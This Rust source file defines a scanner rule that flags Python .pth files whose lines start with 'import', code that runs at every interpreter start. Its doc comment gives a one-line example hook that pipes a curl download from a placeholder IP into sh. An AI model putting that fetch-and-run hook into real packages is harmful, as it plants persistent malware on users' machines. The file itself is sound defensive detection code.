use customs_analyze::Context;
use customs_ecosystem::Role;

use crate::model::declare_rule;
use crate::{Finding, Input, Rule, RuleMeta};

declare_rule! {
    /// ## What it finds
    /// A `.pth` file with lines that start with `import`. Python's `site` module executes
    /// such lines at every interpreter start, for every program, once the package is
    /// installed. What those lines do is analysed as install-time code.
    ///
    /// ## Why it matters
    /// It is the most persistent place to hide code in a Python package: it runs even
    /// when the package is never imported. A 2025 compromise of a popular AI library
    /// used a `.pth` file to run its stealer in every Python process.
    ///
    /// ## Example
    /// ```text
    /// import os; os.system("curl -s http://203.0.113.7/x | sh")
    /// ```
    ///
    /// ## When it is wrong
    /// setuptools, coverage and editable installs use small `.pth` hooks; the finding is
    /// low severity, and only what the hook does can make a package suspicious.
    PthFile {
        id: "pth-file",
        summary: "a .pth file runs code at every interpreter start",
        severity: Low,
        confidence: High,
    }
}

impl Rule for PthFile {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        let pkg = input.package;
        for file in pkg.files.iter().filter(|f| f.role == Role::Pth) {
            let Some(text) = pkg.text(file) else { continue };
            if let Some((n, line)) = text.lines().enumerate().find(|(_, l)| {
                l.trim_start().starts_with("import ") || l.trim_start().starts_with("import\t")
            }) {
                let mut f = Finding::about(
                    &Self::META,
                    &file.path,
                    Context::Install,
                    "runs code at every Python start once installed".into(),
                );
                f.line = u32::try_from(n + 1).ok();
                f.column = Some(1);
                f.snippet = Some(line.trim().chars().take(200).collect());
                out.push(f);
            }
        }
    }
}
